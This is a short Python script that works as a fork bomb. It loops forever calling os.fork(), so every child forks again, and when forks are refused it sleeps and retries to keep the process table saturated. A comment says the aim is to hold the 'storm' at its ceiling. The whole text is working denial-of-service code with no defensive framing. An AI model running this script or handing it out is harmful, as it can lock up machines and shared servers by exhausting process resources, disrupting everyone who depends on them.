import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.05)   # refused: the storm is at its ceiling; keep it there without burning CPU
